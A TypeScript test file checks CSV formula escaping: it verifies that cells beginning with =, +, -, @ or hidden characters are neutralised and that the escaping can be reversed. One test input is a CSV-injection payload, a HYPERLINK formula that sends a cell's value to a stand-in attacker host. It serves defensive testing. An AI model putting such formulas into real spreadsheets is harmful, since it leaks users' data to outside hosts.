import fc from 'fast-check'
import { expect, test } from 'vitest'
import { escapeFormulas, unescapeFormulas } from './escape-formulas.ts'
import { writeCsv } from './send-csv.ts'

const characters = fc.constantFrom(...`=+-@'" \t\r\n＝aß1,;\u200b\u00ad`)
const cell = fc.oneof(fc.string(), fc.string({ unit: characters, maxLength: 6 }))

test('escapes formulas with an apostrophe, also after blanks and quotation marks', () => {
  for (const formula of [
    '=1+1',
    '+49 40',
    '-2',
    '@sum',
    '\tx',
    '\rx',
    ' =1',
    `"=1`,
    `'=1`,
    '＝1',
    '\u200b=1',
    '\u2060\u00ad\ufeff=1',
  ])
    expect(escapeFormulas(formula)).toBe(`'${formula}`)
  for (const text of ['Chain', "'s-Hertogenbosch", '1-2', ''])
    expect(escapeFormulas(text)).toBe(text)
})

test('escapes every formula reversibly', () => {
  fc.assert(
    fc.property(cell, (text) => {
      expect(escapeFormulas(text)).not.toMatch(/^[=+\-@\t\r]/)
      expect(unescapeFormulas(escapeFormulas(text))).toBe(text)
    }),
    { numRuns: 2000 },
  )
})

test('escapes formulas after semicolons, tabs and line breaks within a cell', () => {
  const address = 'Main Street 1;=HYPERLINK("https://evil.test/?"&A1)'
  expect(escapeFormulas(address)).toBe(`Main Street 1;'=HYPERLINK("https://evil.test/?"&A1)`)
  expect(escapeFormulas('a\n =1\r\n\t"-1, +2')).toBe(`a\n' =1\r\n\t'"-1,' +2`)
  expect(escapeFormulas('Chain; 10-speed, nickel\nplated')).toBe('Chain; 10-speed, nickel\nplated')
})

const rows = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 4 })

test('exports no formula, regardless of the delimiter that a spreadsheet uses', async () => {
  await fc.assert(
    fc.asyncProperty(rows, async (cells) => {
      const pages = async function* () {
        yield cells
      }
      let csv = ''
      for await (const text of writeCsv(['a', 'b', 'c'], pages())) csv += text
      for (const part of csv.split(/[,;\t\r\n]/))
        expect(part).not.toMatch(/^[\s"\u200b\u00ad]*[=+\-@＝]/)
    }),
    { numRuns: 1000 },
  )
})

test('escapes a hostile cell in linear time', () => {
  const long = `${"\n'".repeat(50_000)}x`
  expect(unescapeFormulas(escapeFormulas(long))).toBe(long)
})
